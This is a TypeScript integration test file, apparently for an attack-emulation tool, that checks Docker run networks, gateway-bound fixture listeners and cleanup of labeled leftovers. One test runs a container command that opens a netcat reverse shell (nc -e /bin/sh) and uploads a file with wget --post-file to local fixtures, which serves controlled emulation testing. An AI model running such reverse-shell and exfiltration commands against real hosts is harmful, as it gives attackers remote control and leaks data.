// The run network against the REAL Docker engine: a container on it reaches the
// fixtures on the gateway address, the fixtures are not on loopback, and the
// sweep of leftovers removes the network.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile, spawnSync } from 'node:child_process';
import { connect } from 'node:net';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { randomBytes } from 'node:crypto';
import Docker from 'dockerode';
import { createRunNetwork, ipv4Of, removeRunNetwork, runNetworkName, RUN_LABEL } from './network.js';
import { sweepLabeled, EMULATION_LABEL } from './cleanup.js';
import { startHttpsTarget, startListener } from './fixtures.js';
import { needsRunNetwork } from './format.js';
import { acquireHostLock } from './lock.js';

const run = promisify(execFile);
const IMAGE = 'stowaway/busybox:test';

test('ipv4Of: the first IPv4 subnet with a gateway; IPv6-only or gateway-less configurations give none', () => {
  assert.deepEqual(
    ipv4Of([
      { Subnet: 'fd00:1::/64', Gateway: 'fd00:1::1' },
      { Subnet: '172.18.0.0/16', Gateway: '172.18.0.1' },
    ]),
    { subnet: '172.18.0.0/16', gateway: '172.18.0.1' },
  );
  assert.deepEqual(ipv4Of([{ Subnet: '10.9.0.0/24', Gateway: '10.9.0.1/24' }]), { subnet: '10.9.0.0/24', gateway: '10.9.0.1' });
  assert.equal(ipv4Of([{ Subnet: '172.18.0.0/16' }]), undefined);
  assert.equal(ipv4Of(null), undefined);
});

test('scenarios with a fixture or network need join the run network; others do not', () => {
  assert.equal(needsRunNetwork({ needs: ['https'] }), true);
  assert.equal(needsRunNetwork({ needs: ['listener'] }), true);
  assert.equal(needsRunNetwork({ needs: ['network'] }), true);
  assert.equal(needsRunNetwork({ needs: [] }), false);
});

const reason = ((): string | undefined => {
  if (spawnSync('docker', ['image', 'inspect', IMAGE], { stdio: 'ignore' }).status !== 0)
    return `Docker engine or image ${IMAGE} missing (run: bash scripts/test-env.sh)`;
  return undefined;
})();
if (reason) console.error(`\n*** SKIPPING run-network tests against Docker: ${reason} ***\n`);

/** True when a TCP connection to host:port is accepted. */
function accepts(host: string, port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const s = connect({ host, port });
    s.once('connect', () => {
      s.destroy();
      resolve(true);
    });
    s.once('error', () => resolve(false));
  });
}

test(
  'a container on the run network reaches the listener and HTTPS target on its gateway; the sweep removes the network',
  { skip: reason, timeout: 1_200_000 },
  async () => {
    // The sweep below removes every emulation leftover: never while a live validation runs.
    const lock = await acquireHostLock();
    const docker = new Docker();
    const runId = `t${randomBytes(3).toString('hex')}`;
    const net = await createRunNetwork(docker, runId);
    const dir = await mkdtemp(join(tmpdir(), 'stowaway-net-'));
    const name = `${runNetworkName(runId)}-c`;
    try {
      assert.equal(net.name, runNetworkName(runId));
      assert.match(net.gateway, /^\d+\.\d+\.\d+\.\d+$/);
      const info = (await docker.getNetwork(net.id).inspect()) as { Driver: string; Labels: Record<string, string> };
      assert.equal(info.Driver, 'bridge');
      assert.equal(info.Labels[EMULATION_LABEL], '1');
      assert.equal(info.Labels[RUN_LABEL], runId);

      const listener = await startListener(net.gateway);
      const https = await startHttpsTarget(dir, net.gateway);
      try {
        assert.equal(https.url, `https://${net.gateway}:${https.port}/upload`);
        // Bound to the gateway only: not reachable through loopback.
        assert.equal(await accepts('127.0.0.1', listener.port), false, 'listener must not listen on 127.0.0.1');
        assert.equal(await accepts('127.0.0.1', https.port), false, 'HTTPS target must not listen on 127.0.0.1');
        await writeFile(join(dir, 'payload.bin'), Buffer.alloc(321, 1));
        const script = `nc "$1" "$2" -e /bin/sh; wget -q -O /dev/null --no-check-certificate --post-file /w/payload.bin "$3"`;
        await run(
          'docker',
          [
            'run',
            '--rm',
            '--label',
            `${EMULATION_LABEL}=1`,
            '--name',
            name,
            '--network',
            net.name,
            '-v',
            `${dir}:/w:ro`,
            IMAGE,
            'sh',
            '-c',
            script,
            'sh',
            net.gateway,
            String(listener.port),
            https.url,
          ],
          { timeout: 60000 },
        );
        assert.equal(listener.connected(), true, 'the reverse shell reached the listener on the gateway');
        assert.deepEqual(
          https.uploads.map((u) => [u.method, u.bytes]),
          [['POST', 321]],
        );
      } finally {
        await listener.close();
        await https.close();
      }
      // A killed run leaves a container attached to the network: the sweep still removes both.
      await run('docker', ['create', '--label', `${EMULATION_LABEL}=1`, '--name', `${name}-left`, '--network', net.name, IMAGE, 'sleep', '60']);
      const sweep = await sweepLabeled(docker);
      assert.deepEqual(sweep.errors, []);
      assert.ok(sweep.containers >= 1);
      assert.ok(sweep.networks >= 1, 'the sweep removed the labeled network');
      assert.equal((await docker.listNetworks({ filters: { name: [net.name] } })).length, 0);
      assert.equal(await removeRunNetwork(docker, net), undefined, 'removing a network already gone is not an error');
    } finally {
      for (const c of [name, `${name}-left`])
        await docker
          .getContainer(c)
          .remove({ force: true })
          .catch(() => {});
      await removeRunNetwork(docker, net);
      await rm(dir, { recursive: true, force: true });
      await lock.release();
    }
  },
);
